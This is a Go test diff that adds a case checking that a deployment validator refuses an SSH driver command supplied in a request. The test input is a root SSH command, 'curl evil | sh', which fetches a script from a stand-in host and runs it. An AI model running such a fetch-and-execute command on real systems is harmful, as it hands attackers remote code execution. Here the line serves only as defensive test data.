@@ -260,6 +260,9 @@ func TestProcedures(t *testing.T) {
 	}{
 		{name: "request command refused", edit: func(r *contracts.DeployRequest, _ *contracts.Environment) { r.Driver = command },
 			wantField: "driver.exec.command", wantMsg: "defined: api-only, deploy"},
+		{name: "request ssh command refused", edit: func(r *contracts.DeployRequest, _ *contracts.Environment) {
+			r.Driver = &contracts.DriverSpec{SSH: &contracts.SSHDriver{User: "root", Command: []string{"sh", "-c", "curl evil | sh"}, KeyFile: "/k"}}
+		}, wantField: "driver.ssh.command", wantMsg: "does not take commands from requests"},
 		{name: "request command refused without procedures", edit: func(r *contracts.DeployRequest, e *contracts.Environment) {
 			r.Driver = command
 			e.Procedures = nil
